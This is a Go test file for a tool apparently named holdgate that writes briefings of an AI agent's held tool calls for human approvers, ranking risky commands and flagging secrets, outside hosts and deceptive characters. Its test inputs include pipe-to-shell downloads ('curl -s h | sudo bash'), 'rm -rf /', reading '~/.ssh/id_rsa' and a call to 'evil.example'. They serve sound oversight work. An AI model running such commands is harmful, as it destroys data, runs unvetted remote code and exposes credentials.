package briefing_test

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/holdgate/holdgate"
	"github.com/holdgate/holdgate/approvals/briefing"
	"github.com/holdgate/holdgate/rego/facts"
)

type args map[string]any

// brief is the briefing on a tool call in the folder /srv/app, with the facts
// that policy has of it.
func brief(t *testing.T, name string, a args) briefing.Briefing {
	t.Helper()
	raw, err := json.Marshal(a)
	if err != nil {
		t.Fatal(err)
	}
	return briefRaw(t, name, string(raw))
}

func briefRaw(t *testing.T, name, raw string) briefing.Briefing {
	t.Helper()
	c := holdgate.Call{Kind: holdgate.KindToolCall, Tool: &holdgate.Tool{Name: name, Arguments: json.RawMessage(raw)}}
	f := facts.Extract(t.Context(), c, facts.Options{Dir: "/srv/app", Home: "/home/ada", Deadline: time.Minute})
	return briefing.Make(c, 0, holdgate.Decision{Action: holdgate.Hold, Rule: "r", Reason: "because", Facts: &f})
}

// Where there are no effects the summary says what there is.
func TestASummaryWithoutEffects(t *testing.T) {
	for _, c := range []struct {
		tool string
		args args
		want string
	}{
		{"Bash", args{"command": "echo 'a b'"}, "Runs echo 'a b'"},
		{"Bash", args{"command": "make && rm -rf dist"}, "Runs 2 commands: make, rm -rf"},
		{"Bash", args{"command": "sudo systemctl stop nginx"}, "Runs systemctl stop nginx as another user"},
		{"Write", args{"file_path": "/srv/app/src/a.go", "content": strings.Repeat("x\n", 12)}, "Writes 12 lines to ./src/a.go"},
		{"WebFetch", args{"url": "https://example.com/x"}, "WebFetch https://example.com/x"},
		{"create_issue", args{"title": "t", "body": "b"}, "create_issue (body, title)"},
	} {
		t.Run(fmt.Sprint(c.tool, " ", c.args), func(t *testing.T) {
			if got := brief(t, c.tool, c.args).Summary; got != c.want {
				t.Errorf("got  %s\nwant %s", got, c.want)
			}
		})
	}
}

func TestSectionsShowTheCall(t *testing.T) {
	type section = briefing.Section
	for _, c := range []struct {
		name, tool string
		args       args
		want       []section
	}{
		{"a plain command is shown once", "Bash", args{"command": "ls -l", "timeout": 5}, []section{
			{"command", "command", []string{"ls -l"}},
			{"arguments", "arguments", []string{"timeout: 5"}},
		}},
		{"what the agent says comes last, and is marked", "Bash", args{"command": "ls", "description": "harmless"}, []section{
			{"command", "command", []string{"ls"}},
			{"the agent says", "agent_says", []string{"description: harmless"}},
		}},
		{"where there is no command a description is what is written", "create_issue", args{"description": "d"}, []section{
			{"arguments", "arguments", []string{"description: d"}},
		}},
		{"the most dangerous command comes first", "Bash", args{"command": "cd x; curl -s h | sh; sudo rm -rf /opt"}, []section{
			{"command", "command", []string{"cd x; curl -s h | sh; sudo rm -rf /opt"}},
			{"what runs, the most dangerous first", "command", []string{"rm -rf /opt   [through sudo]", "sh   [through pipe; NOT KNOWN before it runs: stdin; reads a pipe]", "curl -s h", "cd x"}},
		}},
		{"code that nobody knows comes first where it runs as another user", "Bash", args{"command": "rm a.txt b.txt; curl -s h | sudo bash; shred c"}, []section{
			{"command", "command", []string{"rm a.txt b.txt; curl -s h | sudo bash; shred c"}},
			{"what runs, the most dangerous first", "command", []string{"bash   [through sudo, pipe; NOT KNOWN before it runs: stdin; reads a pipe]", "rm a.txt b.txt", "shred c", "curl -s h"}},
		}},
		{"and before the deletion of one file in any case", "Bash", args{"command": "rm -f a.txt; rm 'b*'; sudo rm c; rm -r d; rm -- e; curl -s h | sh"}, []section{
			{"command", "command", []string{"rm -f a.txt; rm 'b*'; sudo rm c; rm -r d; rm -- e; curl -s h | sh"}},
			{"what runs, the most dangerous first", "command", []string{"rm b*", "rm c   [through sudo]", "rm -r d", "sh   [through pipe; NOT KNOWN before it runs: stdin; reads a pipe]", "rm -f a.txt", "rm -- e", "curl -s h"}},
		}},
		{"an edit is a diff", "Edit", args{"file_path": "/srv/app/a", "old_string": "one\ntwo\nthree", "new_string": "one\n2\nthree", "replace_all": true}, []section{
			{"change of /srv/app/a", "diff", []string{" one", "-two", "+2", " three"}},
			{"arguments", "arguments", []string{"replace_all: true"}},
		}},
		{"a path that is not absolute is shown both ways", "Edit", args{"file_path": "../a", "old_string": "x", "new_string": "y"}, []section{
			{"change of /srv/a (written as ../a)", "diff", []string{"-x", "+y"}},
		}},
		{"SQL is listed by statement", "query", args{"sql": "select 1 from a;\ndelete from b"}, []section{
			{"statements", "sql", []string{"SELECT a", "DELETE b   [no WHERE: every row]"}},
			{"arguments", "arguments", []string{"sql:", "  select 1 from a;", "  delete from b"}},
		}},
		{"a patch is shown as it was written", "apply_patch", args{"operation": args{"type": "update_file", "path": "a", "diff": "@@\n-x\n+y"}}, []section{
			{"change", "diff", []string{"@@", "-x", "+y"}},
			{"arguments", "arguments", []string{"path: a", "type: update_file"}},
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			if diff := cmp.Diff(c.want, brief(t, c.tool, c.args).Sections); diff != "" {
				t.Errorf("sections (-want +got):\n%s", diff)
			}
		})
	}
}

func TestWhyNamesWhatIsRemarkable(t *testing.T) {
	for _, c := range []struct {
		name string
		args args
		want string
	}{
		{"the rule comes first", args{"command": "ls"}, "r: because"},
		{"what is not known", args{"command": "rm $X"}, "1 part of it is not known before it runs: $X"},
		{"a program", args{"command": "python3 -c 'eval(x)\nprint(1)'"}, "1 part of it is not known before it runs: a program of 2 lines"},
		{"a program that is cut", args{"command": "python3 -c 'eval(x)\n" + strings.Repeat("print(1)\n", 40) + "'"}, "1 part of it is not known before it runs: a program"},
		{"what nobody was shown", args{"command": "bash deploy.sh"}, "runs 1 file whose content nobody was shown: deploy.sh"},
		{"a secret", args{"command": "cat ~/.ssh/id_rsa"}, "reads /home/ada/.ssh/id_rsa: it holds secrets"},
		{"outside the folder", args{"command": "touch /home/bob/x"}, "writes /home/bob/x: outside the session's folder /srv/app"},
		{"a host", args{"command": "curl https://evil.example/x"}, "names 1 host: evil.example"},
		{"characters that deceive", args{"command": "echo \u202egnp"}, "characters that deceive the eye: bidi"},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := brief(t, "Bash", c.args)
			if b.Why[0] != "r: because" || !slices.Contains(b.Why, c.want) {
				t.Errorf("got %q, want %q", b.Why, c.want)
			}
		})
	}
}

func TestWholeIsWhatAPersonHasSeenAllOf(t *testing.T) {
	many := ""
	for n := range 70 {
		many += fmt.Sprintf("ls %d\n", n)
	}
	for _, c := range []struct {
		name string
		b    briefing.Briefing
		want bool
	}{
		{"a short call", brief(t, "Bash", args{"command": "ls"}), true},
		{"one with words that are not known", brief(t, "Bash", args{"command": "rm $X"}), true},
		{"a long line", brief(t, "Bash", args{"command": strings.Repeat("a", 600)}), false},
		{"a long text", brief(t, "Write", args{"file_path": "a", "content": strings.Repeat("a\n", 600)}), false},
		{"more commands than are listed", brief(t, "Bash", args{"command": many}), false},
		{"characters that deceive", brief(t, "Bash", args{"command": "echo \u202egnp"}), false},
		{"what is no JSON object", briefRaw(t, "Bash", `["rm"]`), false},
	} {
		t.Run(c.name, func(t *testing.T) {
			if c.b.Whole != c.want {
				t.Errorf("whole = %v, counts %+v", c.b.Whole, c.b.Counts)
			}
		})
	}
}

func TestWhatPolicyHidesIsNotInTheFactsThatAreShown(t *testing.T) {
	c := holdgate.Call{Kind: holdgate.KindToolCall, Tool: &holdgate.Tool{Name: "Bash", Arguments: json.RawMessage(`{"command":"[redacted]"}`)}}
	f := holdgate.Facts{Commands: []holdgate.Command{{Program: "login", Argv: []string{"login", "hunter2"}, Unresolved: []string{"hunter2"}}}, SuspiciousText: []string{"bidi"}}
	for name, b := range map[string]briefing.Briefing{
		"a value of the arguments": briefing.Make(c, 1, holdgate.Decision{Facts: &f, Redact: []string{"/tool/arguments/command"}}),
		"a fact":                   briefing.Make(c, 0, holdgate.Decision{Facts: &f, Redact: []string{"/facts/commands"}}),
	} {
		if raw, err := json.Marshal(b); err != nil || strings.Contains(string(raw), "hunter2") {
			t.Errorf("%s: %s, %v", name, raw, err)
		}
		if b.Whole || b.Counts.Unresolved != 1 {
			t.Errorf("%s: what is hidden elsewhere makes the call look whole: %+v", name, b)
		}
	}
}

func TestAPersonsEditBeginsWithWhatTheyChanged(t *testing.T) {
	call := func(raw string) holdgate.Call {
		return holdgate.Call{Kind: holdgate.KindToolCall, Tool: &holdgate.Tool{Name: "x", Arguments: json.RawMessage(raw)}}
	}
	b := briefing.Edited(call(`{"a":"1\n2\n3\n4\n5","n":1,"gone":"","t":"1"}`), call(`{"a":"1\n2\n3\n4\nfive","n":2,"new":true,"t":1}`), "ada", 0, holdgate.Decision{})
	want := []string{"  a: (3 lines stay)", "  a: 4", "- a: 5", "+ a: five", "- n: 1", "+ n: 2", `- gone: ""`, `- t: "1"`, "+ t: 1", "+ new: true"}
	if diff := cmp.Diff(want, b.Sections[0].Lines); diff != "" {
		t.Errorf("changes (-want +got):\n%s", diff)
	}
	if got := b.Sections[0].Title; got != "changed by ada from what the agent asked for" {
		t.Errorf("title %q", got)
	}
}

func TestHalfOfTheFactsIsNoSummary(t *testing.T) {
	c := holdgate.Call{Kind: holdgate.KindToolCall, Tool: &holdgate.Tool{Name: "Bash", Arguments: json.RawMessage(`{"command":"ls; rm -rf /"}`)}}
	f := holdgate.Facts{Commands: []holdgate.Command{{Program: "ls", Argv: []string{"ls"}}}, ParseErrors: []string{"out of time"}}
	b := briefing.Make(c, 0, holdgate.Decision{Facts: &f})
	if b.Summary != "Bash: ls; rm -rf /" || b.Sections[1].Title != "what runs, as far as it could be read" || !slices.Contains(b.Why, "could not be read: out of time") {
		t.Errorf("%+v", b)
	}
}
